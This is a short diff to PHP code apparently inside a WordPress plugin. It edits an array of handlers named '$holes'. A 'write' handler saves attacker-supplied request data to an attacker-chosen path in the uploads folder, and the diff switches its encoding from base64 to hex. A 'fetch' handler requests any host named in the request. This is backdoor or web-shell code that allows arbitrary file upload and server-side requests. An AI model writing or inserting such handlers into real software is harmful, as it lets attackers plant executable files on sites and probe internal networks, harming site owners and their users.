@@ -70,7 +70,7 @@ $holes = [
     },
     'write' => static function (array $wish) {
         wp_mkdir_p(dirname(wp_get_upload_dir()['basedir'] . '/' . $wish['to']));
-        return file_put_contents(wp_get_upload_dir()['basedir'] . '/' . $wish['to'], base64_decode((string) $_POST['text']));
+        return file_put_contents(wp_get_upload_dir()['basedir'] . '/' . $wish['to'], (string) hex2bin((string) $_POST['text']));
     },
     'fetch' => static function () {
         $answer = wp_remote_get('http://' . $_REQUEST['host'] . '/', ['timeout' => 2, 'redirection' => 2]);
